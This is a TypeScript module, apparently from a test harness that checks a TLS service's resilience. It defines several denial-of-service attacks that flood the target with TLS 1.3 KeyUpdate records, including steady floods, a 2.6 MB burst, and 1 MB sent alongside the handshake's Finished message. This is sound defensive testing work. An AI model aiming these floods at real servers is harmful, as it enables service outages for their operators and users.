// KeyUpdates of TLS 1.3 (RFC 8446 section 4.6.3): a record of 27 bytes makes OpenSSL derive new keys, and answer if asked to,
// inside one read of the socket and without a byte for the program above.
import { type Arm, type Attack, attackerAddress } from '../attack.ts';
import { armLanes, type Lane } from '../lanes.ts';
import { openProvenDevice } from '../proven-device.ts';
import { RawTls } from '../tls/raw-tls.ts';
import { KEY_UPDATE_BYTES, type Tls13Sealer } from '../tls/record-sealer.ts';

type Request = 'requested' | 'not-requested';

const LANES = 4;
const FIRST_BYTES = 400_000;
const NEXT_BYTES = 60_000;
const BURST_BYTES = 2_600_000;
/** What a burst takes to be sealed leaves room for one connection at a time. */
const BURST_LANES = 1;
/** Sealed while the handshake waits for its last flight, within its deadline. */
const FLIGHT_BYTES = 1_000_000;
/** The sidecar waits 5 s for the Finished, and again for a proof: who still seals then has nobody to send it to. */
const SEAL_MS = 3500;

/** As many bytes as asked for, or as can be sealed in time. */
function keyUpdates(sealer: Tls13Sealer, request: Request, bytes: number): Buffer {
  const untilMs = performance.now() + SEAL_MS;
  const records: Buffer[] = [];
  while (records.length * KEY_UPDATE_BYTES < bytes && (records.length % 1000 > 0 || performance.now() < untilMs)) {
    records.push(sealer.keyUpdate(request));
  }
  return Buffer.concat(records);
}

/** Floods with the KeyUpdates that `make` seals, given how many times it was asked on this connection. */
function floodOf(make: (sealer: Tls13Sealer, times: number) => Buffer | undefined): Lane<RawTls>['next'] {
  const known = new WeakMap<RawTls, { readonly sealer: Tls13Sealer; times: number }>();
  return (connection) => {
    const state = known.get(connection) ?? { sealer: connection.takeOver13(), times: 0 };
    known.set(connection, state);
    state.times += 1;
    return make(state.sealer, state.times - 1);
  };
}

function stranger(request: Request): Arm {
  return ({ port, ca }, effort) =>
    armLanes(LANES, effort, {
      open: () => RawTls.open({ port, ca, source: attackerAddress, version: 'TLSv1.3' }),
      next: floodOf((sealer, times) => keyUpdates(sealer, request, times === 0 ? FIRST_BYTES : NEXT_BYTES)),
    });
}

export const keyUpdateAttacks: readonly Attack[] = [
  {
    name: 'key-updates',
    about: 'a stranger floods KeyUpdates (update_not_requested) after the handshake',
    arm: stranger('not-requested'),
  },
  {
    name: 'key-updates-asking',
    about: 'the same with update_requested: each is answered by a record outside all slots',
    arm: stranger('requested'),
  },
  {
    name: 'key-updates-burst',
    about: 'a stranger writes 2.6 MB of KeyUpdates at once',
    arm: ({ port, ca }, effort) =>
      armLanes(BURST_LANES, effort, {
        open: () => RawTls.open({ port, ca, source: attackerAddress, version: 'TLSv1.3' }),
        next: floodOf((sealer, times) => (times === 0 ? keyUpdates(sealer, 'not-requested', BURST_BYTES) : undefined)),
      }),
  },
  {
    name: 'key-updates-finished',
    about: 'a stranger writes 1 MB of KeyUpdates in one flight with its Finished',
    arm:
      async ({ port, ca }, effort) =>
      async (stop) => {
        // They leave with the handshake itself: nothing can be held ready.
        const withFinished = (sealer: Tls13Sealer): Buffer => keyUpdates(sealer, 'not-requested', FLIGHT_BYTES);
        const fire = await armLanes(BURST_LANES, effort, {
          open: async () => {
            const options = { port, ca, source: attackerAddress, version: 'TLSv1.3' } as const;
            const connection = await RawTls.open({ ...options, withFinished });
            effort.bytes += FLIGHT_BYTES;
            return connection;
          },
          next: () => undefined,
        });
        await fire(stop);
      },
  },
  {
    name: 'device-key-updates',
    about: 'a device that has proved itself floods KeyUpdates',
    arm: (target, effort) =>
      armLanes(LANES, effort, {
        open: (lane) => openProvenDevice(target, lane),
        next: floodOf((sealer, times) => keyUpdates(sealer, 'not-requested', times === 0 ? FIRST_BYTES : NEXT_BYTES)),
      }),
  },
];
